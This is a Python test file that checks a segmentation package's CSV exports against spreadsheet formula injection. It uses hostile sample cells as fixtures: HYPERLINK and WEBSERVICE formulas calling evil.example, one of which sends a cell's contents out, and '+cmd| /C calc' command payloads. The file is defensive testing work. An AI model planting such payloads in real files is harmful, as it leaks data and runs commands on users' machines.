"""Formula injection: no CSV the core writes lets a spreadsheet run a cell as a formula.

A customer file, a column name or a segment name typed in the app can start with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return; opened in Excel, such a cell is a formula that can call
out to the web or run a command (OWASP "CSV injection"). Every CSV download (labelled customers,
segment summary, newly scored customers) must prefix those cells with ``'``, and must leave plain
numbers such as ``-12.5`` or ``+3`` alone so they stay numbers, and a lone ``-`` or ``+`` (a missing
value) as written: neither holds anything a spreadsheet could compute.
"""

from __future__ import annotations

import csv
import io
import re

import pandas as pd
import pytest

from segmentation import describe, fit, labelled_csv, load_table, prepare, run_config, score, summary_csv
from segmentation.export import FORMULA_PREFIX, scored_csv

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
# Safe to leave unprefixed: a sign, then only digits and separators (and an exponent or a percent
# sign), so nothing a spreadsheet could call or look up.
PLAIN_NUMBER = re.compile(r"^[+-]?[\d.,\u00a0\u202f ]*\d[\d.,\u00a0\u202f ]*([eE][+-]?\d+)?%?$")
# Also safe: only signs, the usual "no value" markers ("-", "--", "+"); with no operand there is
# nothing to compute.
SIGNS_ONLY = re.compile(r"^[+-]+ *$")

CUSTOMERS = (
    b"Name,=Score,@Spend,-Balance,+Tier,Note\r\n"
    b'"=HYPERLINK(""http://evil.example/?d=""&B2,""Click"")",3,10,-12.5,=A,@SUM(1+1)\r\n'
    b'"+cmd|\' /C calc\'!A0",9,12,-3,-B,"\t=1+2"\r\n'
    b'-2+3+cmd|x,4,50,-100.25,=A,"\r=cr"\r\n'
    b"@mention,8,52,-1e3,-B,-\r\n"
    b"plain,2,11,+3,=A,-0.5\r\n"
    b"Ann,9,49,-7,-B,ok\r\n"
    b"Bo,5,13,-8.75,=A,=1+1\r\n"
    b"Cy,7,51,-4,-B,+44 20 7946 0000\r\n"
)
#: Segment names as a user might type them in the app.
NAMES = ['=HYPERLINK("http://evil.example")', "-Savers", "+Spenders", "@Risk", "\tTabbed", "Plain"]


def rows(data: bytes) -> list[list[str]]:
    """Every row of a downloaded CSV, header first, as the spreadsheet will see the cells."""
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark, for Excel
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_no_formula(data: bytes) -> int:
    """Fail if any cell, header included, would start a formula; return the number of cells checked."""
    checked = 0
    for r, row in enumerate(rows(data)):
        for value in row:
            assert not value.startswith(DANGEROUS) or PLAIN_NUMBER.match(value) or SIGNS_ONLY.match(value), (r, value)
            checked += 1
    return checked


def read_back(data: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False, encoding="utf-8-sig")


@pytest.fixture(scope="module")
def segmentation():
    prepared = prepare(load_table(CUSTOMERS, name="hostile.csv"))
    assert prepared.columns == ("=Score", "@Spend", "-Balance", "+Tier")
    return fit(prepared, 2)


def test_labelled_csv_neutralises_cells_headers_and_typed_names(segmentation):
    data = labelled_csv(segmentation, names=NAMES[:2])
    assert assert_no_formula(data) == 9 * 8
    out = read_back(data)
    assert list(out.columns) == [
        "Name",
        "'=Score",
        "'@Spend",
        "'-Balance",
        "'+Tier",
        "Note",
        "Segment",
        "Segment name",
    ]
    assert out["Name"].tolist() == [
        '\'=HYPERLINK("http://evil.example/?d="&B2,"Click")',
        "'+cmd|' /C calc'!A0",
        "'-2+3+cmd|x",
        "'@mention",
        "plain",
        "Ann",
        "Bo",
        "Cy",
    ]
    assert out["Note"].tolist() == ["'@SUM(1+1)", "'\t=1+2", "'\r=cr", "-", "-0.5", "ok", "'=1+1", "'+44 20 7946 0000"]
    assert set(out["Segment name"]) == {'\'=HYPERLINK("http://evil.example")', "'-Savers"}
    assert out["'+Tier"].tolist() == ["'=A", "'-B"] * 4


def test_labelled_csv_keeps_plain_negative_numbers_as_numbers(segmentation):
    out = read_back(labelled_csv(segmentation))
    balance = out["'-Balance"].tolist()
    assert balance == ["-12.5", "-3", "-100.25", "-1e3", "+3", "-7", "-8.75", "-4"]
    assert [float(v) for v in balance] == [-12.5, -3, -100.25, -1000, 3, -7, -8.75, -4]
    assert out["'=Score"].tolist() == ["3", "9", "4", "8", "2", "9", "5", "7"]


def test_labelled_csv_fit_scores_stay_numbers(segmentation):
    pytest.importorskip("segmentation.unusual")  # the "Unusual" flag needs it
    data = labelled_csv(segmentation, names=NAMES[:2], unusual=True)
    assert_no_formula(data)
    scores = read_back(data)["Fit score"]
    assert all(PLAIN_NUMBER.match(v) for v in scores)
    assert [float(v) for v in scores] == pytest.approx(list(segmentation.fit_score), abs=1e-4)


def test_summary_csv_neutralises_typed_names_and_column_names(segmentation):
    profile = describe(segmentation, names=NAMES[:2])
    data = summary_csv(profile)
    assert_no_formula(data)
    out = read_back(data)
    assert out["Name"].tolist() == ['\'=HYPERLINK("http://evil.example")', "'-Savers", "All customers"]
    header = list(out.columns)
    for column in ("=Score", "@Spend", "-Balance"):
        assert FORMULA_PREFIX + column in header
        assert column not in header
    # Category values become column names too ("+Tier = =A"); those are neutralised as well.
    assert [c for c in header if "Tier" in c] and all(c.startswith(FORMULA_PREFIX) for c in header if "Tier" in c)


def test_summary_csv_keeps_negative_averages_as_numbers(segmentation):
    profile = describe(segmentation)
    out = read_back(summary_csv(profile))
    balance = out["'-Balance"].tolist()
    assert all(PLAIN_NUMBER.match(v) for v in balance), balance
    assert float(balance[-1]) == pytest.approx(profile.overall["-Balance"], rel=1e-5)
    assert float(balance[-1]) < 0
    assert all(float(v) < 0 for v in balance)


def test_renamed_profile_is_neutralised_too(segmentation):
    profile = describe(segmentation).with_names(["@cmd", "=1+1"])
    out = read_back(summary_csv(profile))
    assert out["Name"].tolist()[:2] == ["'@cmd", "'=1+1"]


def test_scored_csv_of_new_customers_is_neutralised(segmentation):
    model = run_config(segmentation, names=NAMES[:2])
    new = (
        b"Name,=Score,@Spend,-Balance,+Tier\n"
        b'=WEBSERVICE("http://evil.example"),2,11,-5,=A\n'
        b"@x,7,50,-90.5,-B\n"
        b"Dee,3,12,+2,=A\n"
    )
    scored = score(new, model)
    data = scored_csv(scored)
    assert_no_formula(data)
    out = read_back(data)
    assert out["Name"].tolist() == ['\'=WEBSERVICE("http://evil.example")', "'@x", "Dee"]
    assert out["'-Balance"].tolist() == ["-5", "-90.5", "+2"]
    assert set(out["Segment name"]) <= {'\'=HYPERLINK("http://evil.example")', "'-Savers"}
    assert "'=Score" in out.columns


@pytest.mark.parametrize("start", DANGEROUS)
def test_every_dangerous_start_is_caught_in_every_export(start):
    data = f'Name,Spend\n"{start}x",1\nb,2\nc,40\nd,41\n'.encode()
    segmentation = fit(prepare(load_table(data)), 2)
    profile = describe(segmentation, names=[f"{start}one", f"{start}two"])
    for download in (labelled_csv(segmentation, profile=profile), summary_csv(profile)):
        assert_no_formula(download)
    assert read_back(labelled_csv(segmentation))["Name"].iloc[0] == f"'{start}x"


@pytest.mark.parametrize("value", ["-1.234,5", "-1,234.50", "-12%", "-1 234,5", "-0.5", "+3", "-1e3", "-.5", "-1,5"])
def test_formatted_negative_numbers_stay_numbers_in_the_download(value):
    data = f'Name,Balance,Spend\nA,"{value}",1\nB,2,2\nC,3,40\nD,4,41\n'.encode()
    segmentation = fit(prepare(load_table(data), features=["Spend"]), 2)
    assert_no_formula(labelled_csv(segmentation))
    assert read_back(labelled_csv(segmentation))["Balance"].iloc[0] == value


def test_columns_that_look_alike_once_neutralised_are_both_kept():
    data = b"=x,'=x,Spend\n1,2,10\n3,4,12\n5,6,50\n7,8,52\n"
    segmentation = fit(prepare(load_table(data), features=["Spend"]), 2)
    table = rows(labelled_csv(segmentation))
    assert table[0] == ["'=x", "'=x", "Spend", "Segment", "Segment name"]
    assert [row[:2] for row in table[1:]] == [["1", "2"], ["3", "4"], ["5", "6"], ["7", "8"]]


@pytest.mark.parametrize("value", ["-", "+", "--", "- ", "-5", "+5", "-0.5", "+447946000000", "-1.234,5"])
def test_lone_signs_and_plain_numbers_are_downloaded_as_written(value):
    # "-" is how many exports write "no value"; "'-" in the download would be a changed cell.
    data = f'Name,Note,Spend\nA,"{value}",1\nB,x,2\nC,y,40\nD,z,41\n'.encode()
    segmentation = fit(prepare(load_table(data), features=["Spend"]), 2)
    download = labelled_csv(segmentation)
    assert_no_formula(download)
    assert read_back(download)["Note"].iloc[0] == value


@pytest.mark.parametrize(
    "value",
    ["+44 20 7946 0958", "+1 (555) 123-4567", "-2+3", "-1-2", "+A1", "-SUM(A1)", "=", "@", "- -1", "--1"],
)
def test_cells_a_spreadsheet_would_compute_keep_the_prefix(value):
    # A phone number with spaces is a formula to a spreadsheet (the space intersects ranges): it would
    # show #NULL! or a sum instead of the number, so it is prefixed like any other formula.
    data = f'Name,Note,Spend\nA,"{value}",1\nB,x,2\nC,y,40\nD,z,41\n'.encode()
    segmentation = fit(prepare(load_table(data), features=["Spend"]), 2)
    assert read_back(labelled_csv(segmentation))["Note"].iloc[0] == FORMULA_PREFIX + value
